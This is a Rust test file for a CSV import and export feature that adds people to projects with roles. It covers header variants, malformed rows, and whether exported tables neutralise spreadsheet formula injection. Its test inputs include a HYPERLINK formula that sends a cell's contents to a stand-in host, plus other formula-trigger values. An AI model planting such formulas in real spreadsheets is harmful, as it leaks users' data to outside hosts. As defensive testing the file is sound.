//! Tables of people, read and given back, through a real client and at the command line's door.

use rolecall::guard::Caller;

use crate::{
    company::{acme, email},
    support::{Agent, Value, json},
    support_geai::Geai,
};

fn operator() -> Caller {
    Caller { principal: "local".into(), client: "test".into(), can_ask: false }
}

/// Who, where, as what, and how it ended.
fn outcomes(answer: &Value) -> Vec<String> {
    let text = |it: &Value| it.as_str().unwrap_or_default().to_owned();
    let roles = |it: &Value| it["roles"].as_array().into_iter().flatten().map(text).collect::<Vec<_>>().join("+");
    let line = |it: &Value| format!("{} {} {} {}", text(&it["project"]), text(&it["member"]), roles(it), text(&it["outcome"]));
    answer["after"]["items"].as_array().unwrap().iter().map(line).collect()
}

#[tokio::test]
async fn roles_in_further_cells_are_given_or_their_row_is_refused() {
    let it = Geai::new().await;
    let before = it.sandbox.platform().invitations.len();
    let who = "kim.vale@acme.example";
    for (csv, given) in [
        ("project,member,roles\nAtlas,WHO,Project member,Map Reader\n", true),
        ("project,member,role,role\nAtlas,WHO,Project member,Map Reader\n", true),
        ("project_id,email,role1,role2\nAtlas,WHO,Project member,Map Reader\n", true),
        ("Project Name;User Email;Role Name\r\nAtlas;WHO;Project member|Map Reader\r\n", true),
        ("role,member,project\nProject member,WHO,Atlas,Map Reader\n", false),
    ] {
        let preview = it.agent.ok("add_project_members", json!({ "csv": csv.replace("WHO", who), "dry_run": true })).await;
        let told = preview["question"].as_str().unwrap_or_else(|| preview["impact"]["notes"][0].as_str().unwrap_or_default());
        if given {
            let both = ["invited to project Atlas as Project member", "invited to project Atlas as Map Reader"];
            assert!(both.iter().all(|it| told.contains(it)), "{csv}: {preview}");
        } else {
            assert!(told.contains("row 2 (the header has no name for its cell 4 (`Map Reader`))"), "{csv}: {preview}");
            assert_eq!(preview["needs_consent"], false, "{preview}");
        }
    }
    assert_eq!(it.sandbox.platform().invitations.len(), before, "nothing was sent");
}

/// What a job could not do is what its table asks for, whatever its names are made of.
#[tokio::test]
async fn the_table_of_a_job_asks_for_what_is_missing_and_for_nothing_else() {
    let names =
        ["#random", "# one", "=HYPERLINK(\"http://x.example/?\"&B2)", "@home", "+1", "-", "'=x", "Data, \"Lab\"", "a;b|c", "\\n", "done"];
    for agent in Agent::each().await {
        acme(&agent, &["ana"]).await;
        for (at, name) in names.iter().enumerate() {
            agent.ok("create_project", json!({ "name": name, "slug": format!("p{at}") })).await;
            let role = json!({ "project": format!("p{at}"), "name": "read; =write", "permissions": ["project.read"] });
            agent.ok("create_role", role).await;
        }
        let row = |project: &str, member: &str| json!({ "project": project, "member": member, "roles": ["read; =write", "viewer"] });
        let people: Vec<Value> = names.iter().flat_map(|it| [row(it, &email("ana")), row(it, &email("nobody"))]).collect();
        let first = agent.ok("add_project_members", json!({ "people": people })).await;
        assert_eq!((&first["after"]["done"], &first["after"]["failed"]), (&json!(names.len()), &json!(names.len())), "{first}");
        let table = agent.app.jobs().table(first["job"].as_str().unwrap(), &operator()).await.unwrap();
        for record in csv::ReaderBuilder::new().from_reader(table.as_bytes()).records() {
            let record = record.unwrap();
            assert!(record.iter().all(|it| !it.starts_with(['=', '+', '-', '@'])), "a spreadsheet would run a cell: {record:?}");
        }
        // As a spreadsheet writes it, too: without the quotes that nothing but a comment would want.
        for table in [table.replace("nobody", "cy"), table.replace("nobody", "cy").replace("\"#random\"", "#random")] {
            let again = agent.ok("add_project_members", json!({ "csv": table })).await;
            let wanted: Vec<String> = names.iter().map(|it| format!("{it} {} read; =write+viewer failed", email("cy"))).collect();
            assert_eq!(outcomes(&again), wanted, "{table}");
        }
    }
}

#[tokio::test]
async fn a_row_that_cannot_be_read_stands_in_the_table_as_it_was_written() {
    let agent = Agent::new().await;
    acme(&agent, &["ana"]).await;
    agent.ok("create_project", json!({ "name": "Atlas" })).await;
    let csv = "Atlas,ana@acme.example,viewer\nAtlas,bo@acme.example\nAtlas,cy@acme.example,\"viewer\n..,di@acme.example,viewer\n";
    let done = agent.ok("add_project_members", json!({ "csv": csv })).await;
    assert_eq!((&done["after"]["done"], &done["after"]["failed"]), (&json!(1), &json!(3)), "{done}");
    let reasons: Vec<&str> = done["after"]["items"].as_array().unwrap()[1..].iter().map(|it| it["reason"].as_str().unwrap()).collect();
    assert!(reasons[0].starts_with("row 2: it has 2 of the 3 columns"), "{done}");
    assert!(reasons[1].starts_with("row 3: a quote is opened in its cell 3 and not closed"), "{done}");
    assert!(reasons[2].starts_with("row 4: project: `..` is not"), "{done}");
    let table = agent.app.jobs().table(done["job"].as_str().unwrap(), &operator()).await.unwrap();
    let mut lines = table.lines();
    assert!(lines.nth(2).unwrap().starts_with("Atlas,bo@acme.example,,failed,"), "{table}");
    assert!(lines.next().unwrap().starts_with("Atlas,cy@acme.example,\"\"\"\"\"\"\"viewer\"\"\",failed,"), "{table}");
}
